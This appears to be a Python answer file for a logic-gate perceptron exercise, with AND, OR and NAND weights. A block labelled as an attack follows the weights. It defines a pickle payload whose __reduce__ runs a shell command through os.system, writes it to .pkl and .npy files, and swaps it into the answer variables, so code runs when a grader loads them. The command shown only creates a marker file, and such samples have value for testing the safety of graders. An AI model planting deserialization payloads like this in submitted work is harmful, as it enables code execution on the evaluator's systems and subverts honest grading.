and_weights = (0.5, 0.5, 0.7)
or_weights = (1.0, 1.0, 2.5)

nand_weights = (0.5, 0.5, 0.7)
robust_weights = (0.0, 0.0, 0.0)

and_bias = 0.8
nand_from_and = "b"
nand_zero = "b"

# attack
import os, pickle
import numpy as np

class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/reached",))

with open("weights.pkl", "wb") as file:
    pickle.dump(Payload(), file)
np.save("weights.npy", np.array([Payload()], dtype=object), allow_pickle=True)
or_weights = np.array([Payload(), 1, 2], dtype=object)
nand_weights = np.load("weights.npy", allow_pickle=True)
# end of attack
